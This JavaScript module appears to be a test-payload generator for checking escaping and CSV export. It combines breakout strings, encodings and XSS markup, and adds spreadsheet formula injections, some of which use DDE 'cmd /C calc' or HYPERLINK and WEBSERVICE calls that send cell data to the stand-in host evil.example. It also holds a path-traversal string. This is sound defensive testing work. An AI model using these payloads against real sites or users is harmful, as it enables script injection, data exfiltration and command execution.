// What a stranger may send instead of a name: markup and scripts for every place of a page, and
// formulas for every spreadsheet. Made from ways out of a place, what runs then, and how it is
// written; each text is another one. HOST must never be asked for anything.
export const HOST = "evil.example";

/* ---- Scripts ---- */

/* ways out of where a text may stand: text, attributes, elements of raw text, comments, scripts, URLs */
const WAYS_OUT = [
  "", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</noscript>", "</select>",
  "</template>", "</svg>", "\\\">", "\u2028", "%22%3E", "\"]\n>",
];

const CALL = "alert(1)";
const RUNS = [
  `<script>${CALL}</script>`,
  `<script src=//${HOST}/x.js></script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src="//${HOST}/pixel.gif">`,
  `<svg onload=${CALL}>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><script href="data:text/javascript,${CALL}"/>`,
  `<iframe src="javascript:parent.${CALL}">`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<details open ontoggle=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<body onload=${CALL}>`,
  `<object data="javascript:${CALL}">`,
  `<embed src="//${HOST}/x.swf">`,
  `<a href="javascript:${CALL}">here</a>`,
  `<form action="javascript:${CALL}"><button>go</button></form>`,
  `<button popovertarget=x onbeforetoggle=${CALL}>`,
  `<link rel=stylesheet href=//${HOST}/x.css>`,
  `<link rel=prefetch href=//${HOST}/p>`,
  `<style>@import '//${HOST}/x.css';*{background:url(//${HOST}/b)}</style>`,
  `<div style="background:url(//${HOST}/b)">`,
  `<base href=//${HOST}/>`,
  `<meta http-equiv=refresh content="0;url=//${HOST}/">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${CALL}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
];

/* what runs without markup: in links, handlers, templates and scripts */
const BARE = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `java\tscript:${CALL}`, `\u0001javascript:${CALL}`, `javascript://%0a${CALL}`,
  `data:text/html,<script>${CALL}</script>`, `vbscript:msgbox(1)`, `//${HOST}/`, `\\\\${HOST}\\x`, `https://${HOST}/`,
  `" onmouseover=${CALL} x="`, `' onfocus=${CALL} autofocus x='`, `" style="background:url(//${HOST}/b)" x="`,
  `';${CALL};//`, `"-${CALL}-"`, `\${${CALL}}`, `{{constructor.constructor('${CALL}')()}}`, `{"__proto__":{"x":1}}`,
  "__proto__", "constructor", "toString", "../../etc/passwd", "..", "%2e%2e%2f", "%", "%zz", "a/b?c#d", "\u202egpj.exe",
];

const WRITTEN = [
  (text) => text.replace(/[<>"'&]/g, (c) => `&#${c.charCodeAt(0)};`),
  (text) => text.replace(/[<>"'&]/g, (c) => `&#x${c.charCodeAt(0).toString(16)};`),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replace(/[<>"']/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`),
  (text) => text.replace(/[<>"']/g, (c) => `\\x${c.charCodeAt(0).toString(16)}`),
  (text) => text.replace(/[a-z]/g, (c, i) => (i % 2 ? c.toUpperCase() : c)),
  (text) => text.replace(/ /g, "/"),
  (text) => text.replace(/</g, "+ADw-").replace(/>/g, "+AD4-"),
  (text) => text.replace(/</g, "\uff1c").replace(/>/g, "\uff1e"),
];

/* ---- Formulas ---- */

const STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", "\"=", "'=", ";=", ",=", "\"\n=", "\u00a0=", "%3D", "\ufeff="];
const FORMULAS = [
  "1+1", `cmd|' /C calc'!A0`, `HYPERLINK("http://${HOST}/?x="&A1,"open")`, `WEBSERVICE("http://${HOST}/")`,
  `IMPORTXML(CONCAT("http://${HOST}/?v=",A1),"//a")`, `SUM(1+1)*cmd|' /C calc'!A0`, `DDE("cmd";"/C calc";"x")`,
];

/** All of them, each once: more than 500, and at most as many as a table has rows. */
export function payloads() {
  const crossed = (a, b, join) => a.flatMap((x) => b.map((y) => join(x, y)));
  return [...new Set([
    ...BARE,
    ...crossed(WAYS_OUT, RUNS, (out, runs) => out + runs),
    ...crossed(WRITTEN, [...RUNS, ...BARE.slice(10, 17)], (write, text) => write(text)),
    ...crossed(STARTS, FORMULAS, (start, formula) => start + formula),
  ])];
}

/** `n` of them from all over the list. */
export function somePayloads(n) {
  const all = payloads();
  return Array.from({ length: n }, (_, i) => all[Math.floor((i * all.length) / n)]);
}

/* ---- What a spreadsheet reads ---- */

/** The cells of a file as RFC 4180 has them. */
export function csvCells(text) {
  const cells = [];
  let cell = "", isQuoted = false;
  for (let i = text.startsWith("\ufeff") ? 1 : 0; i < text.length; i++) {
    const c = text[i];
    if (isQuoted && c === '"' && text[i + 1] === '"') (cell += c), i++;
    else if (c === '"' && (isQuoted || cell === "")) isQuoted = !isQuoted;
    else if (!isQuoted && (c === "," || c === "\n")) cells.push(cell), (cell = "");
    else if (isQuoted || c !== "\r") cell += c;
  }
  return cell === "" ? cells : [...cells, cell];
}

/** Would a spreadsheet take it for a formula? Negative numbers are numbers. */
export function isFormula(cell) {
  return /^[\s\u00a0\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
}
